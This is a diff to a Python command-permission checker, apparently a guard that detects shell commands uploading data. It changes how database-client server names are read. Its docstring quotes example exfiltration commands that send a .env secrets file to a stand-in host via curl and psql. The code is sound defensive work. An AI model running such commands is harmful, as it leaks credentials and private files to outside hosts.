@@ -1229,29 +1229,22 @@ def _upload_around(
     view: tuple[str, ...],
     seg: Segment,
     idx: int,
-    around: list[tuple[bool, dict[int, str], bool, frozenset[str]]],
+    around: list[tuple[bool, dict[int, str], bool]],
     command: str,
     segments: Sequence[Segment],
 ) -> bool:
     """An upload verb's view as its surroundings show it (permissions.commands.uploads.uploads_in): fed by
     a pipe or a redirection, under a named proxy, handed words by ``xargs`` from a fed input, given words
     built from what the command captured (``curl "https://h/$(cat .env)"``), or a database client whose server
-    the command's variables name (``PGHOST=h psql -f .env``). ``around`` keeps what the surroundings are, read
-    at the first upload verb met (empty until then)."""
+    the command's variables name (``PGHOST=h psql -f .env``: read for a database client only). ``around`` keeps
+    what the surroundings are, read at the first upload verb met (empty until then)."""
     if not around:
-        around.append(
-            (
-                names_a_proxy(segments),
-                fed_segments(command, segments),
-                captures(segments),
-                servers_set(segments),
-            )
-        )
-    proxied, fed_at, captured, servers = around[0]
+        around.append((names_a_proxy(segments), fed_segments(command, segments), captures(segments)))
+    proxied, fed_at, captured = around[0]
     fed = fed_at.get(idx, "")
     built = captured and bool(seg.dynamic) and max(seg.dynamic) >= len(seg.words) - len(view)
-    served = bool(servers) and view[0] in SERVER_CLIENTS
-    if not (proxied or fed or built or served):
+    servers = servers_set(segments) if view[0] in SERVER_CLIENTS else frozenset()
+    if not (proxied or fed or built or servers):
         return False  # read already, as written, by external_effect_views
     handed = built or (bool(fed) and handed_words(seg.words, view))
     return uploads_in(view, fed=fed, proxied=proxied, handed=handed, servers=servers)
@@ -1349,7 +1342,7 @@ def _terminal_cap(
     segments = parsed.segments
     privileged_at: str | None = None
     # whether the command names a proxy, and which segments are fed: read once, only if an upload verb is met
-    around: list[tuple[bool, dict[int, str], bool, frozenset[str]]] = []
+    around: list[tuple[bool, dict[int, str], bool]] = []
     git = False  # some view is a git command (git is a cap verb: every such view is met below)
     for idx, (seg, vs) in enumerate(zip(segments, seg_views)):
         if seg.redirects and network_redirect(seg.redirects):
